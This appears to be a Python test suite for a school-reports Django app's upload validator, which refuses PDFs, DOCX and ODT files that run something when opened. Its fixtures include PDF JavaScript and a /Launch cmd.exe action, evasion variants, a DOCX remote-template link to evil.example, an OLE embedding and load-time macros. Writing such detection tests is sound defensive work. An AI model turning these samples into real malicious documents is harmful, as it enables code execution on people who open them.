"""The document registry publishes to everyone: documents that run something when opened are refused
(issue 15, item 8) with a Russian reason, and ordinary ones still pass."""

import io
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from reports.files import FILE_MACROS, FILE_OLE, FILE_PDF_SCRIPT, FILE_REMOTE_TEMPLATE, detect_document_type
from schools.uploads import UploadRejected
from tests.reports.factories import document_post

DOCX = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
REMOTE_TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LOCAL_TEMPLATE = REMOTE_TEMPLATE.replace(' TargetMode="External"', "").replace(
    "https://evil.example/t.dotm", "file:///Normal.dotm"
)
ODT = {"mimetype": "application/vnd.oasis.opendocument.text"}
ODT_SCRIPT = (
    "<office:document-content><office:scripts><office:event-listeners><script:event-listener "
    'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Run?language=Basic"/>'
    "</office:event-listeners></office:scripts></office:document-content>"
)


def _zip(files: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _compressed_stream(content: bytes) -> bytes:
    data = zlib.compress(content)
    return (
        b"5 0 obj << /Type /ObjStm /Filter /FlateDecode /Length %d >> stream\n" % len(data)
        + data
        + (b"\nendstream endobj")
    )


def _refused(content: bytes) -> str:
    with pytest.raises(UploadRejected) as error:
        detect_document_type(SimpleUploadedFile("документ", content))
    return str(error.value)


@pytest.mark.parametrize(
    "body",
    [
        b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj",
        b"1 0 obj << /OpenAction 2 0 R >> endobj 2 0 obj << /S /JavaScript /JS 3 0 R >> endobj",
        b"1 0 obj << /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >> endobj",
        b"1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj",
        _compressed_stream(b"2 0 << /S /JavaScript /JS (app.alert(1)) >>"),
    ],
    ids=["open-action-js", "js-by-reference", "hex-escaped-names", "launch", "inside-object-stream"],
)
def test_a_pdf_with_javascript_or_a_launch_action_is_refused(body):
    assert _refused(_pdf(body)) == FILE_PDF_SCRIPT


def test_an_ordinary_pdf_with_compressed_text_passes():
    body = b"1 0 obj << /Type /Catalog >> endobj " + _compressed_stream(b"BT /F1 12 Tf (JSON, JScript) Tj ET")
    assert detect_document_type(SimpleUploadedFile("отчёт.pdf", _pdf(body))) == "pdf"


def test_a_docx_with_a_remote_template_is_refused():
    assert _refused(_zip({**DOCX, "word/_rels/settings.xml.rels": REMOTE_TEMPLATE})) == FILE_REMOTE_TEMPLATE


def test_a_docx_with_a_local_template_name_passes():
    content = _zip({**DOCX, "word/_rels/settings.xml.rels": LOCAL_TEMPLATE})
    assert detect_document_type(SimpleUploadedFile("приказ.docx", content)) == "docx"


def test_a_docx_with_an_ole_object_is_refused():
    assert _refused(_zip({**DOCX, "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})) == FILE_OLE


def test_a_docx_with_an_embedded_picture_passes():
    content = _zip({**DOCX, "word/media/image1.png": b"\x89PNG"})
    assert detect_document_type(SimpleUploadedFile("приказ.docx", content)) == "docx"


@pytest.mark.parametrize(
    "extra",
    [{"content.xml": ODT_SCRIPT}, {"content.xml": "<x/>", "Basic/Standard/Module1.xml": "<m/>"}],
    ids=["event-listener", "basic-library"],
)
def test_an_odt_with_macros_is_refused(extra):
    assert _refused(_zip({**ODT, **extra})) == FILE_MACROS


def test_the_registry_upload_shows_the_reason_and_keeps_nothing(catalogue, client_for, inspector):
    from reports.models import Document

    response = document_post(
        client_for(inspector),
        title="Приказ с сюрпризом",
        kind="managerial",
        stage=1,
        upload=SimpleUploadedFile(
            "приказ.pdf", _pdf(b"1 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >> endobj")
        ),
    )
    assert response.status_code == 200
    assert FILE_PDF_SCRIPT in response.content.decode()
    assert not Document.objects.exists()
